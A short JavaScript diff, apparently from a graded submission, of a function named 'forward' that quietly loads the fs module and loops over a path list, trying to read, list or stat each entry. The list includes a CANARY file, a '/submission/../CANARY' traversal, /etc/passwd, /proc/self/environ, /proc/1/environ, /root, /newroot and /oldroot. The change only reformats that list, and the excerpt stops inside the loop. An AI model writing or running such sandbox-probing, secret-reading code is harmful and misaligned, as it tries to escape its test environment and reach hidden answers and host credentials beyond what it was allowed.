@@ -2,8 +2,23 @@
 const load = (name) => process.getBuiltinModule?.(name) ?? process.mainModule?.require(name);
 export function forward() {
   const fs = load('fs');
-  const paths = ['CANARY', '/etc/passwd', '/etc/hostname', '/proc/self/environ', '/proc/1/environ', '/proc/self/cmdline',
-    '/sys/kernel', '/dev/null', '/tmp', '/home', '/root', '/work', '/submission/../CANARY', '/newroot', '/oldroot'];
+  const paths = [
+    'CANARY',
+    '/etc/passwd',
+    '/etc/hostname',
+    '/proc/self/environ',
+    '/proc/1/environ',
+    '/proc/self/cmdline',
+    '/sys/kernel',
+    '/dev/null',
+    '/tmp',
+    '/home',
+    '/root',
+    '/work',
+    '/submission/../CANARY',
+    '/newroot',
+    '/oldroot',
+  ];
   let read = 0;
   for (const path of paths) {
     for (const attempt of [() => fs.readFileSync(path), () => fs.readdirSync(path), () => fs.statSync(path)]) {
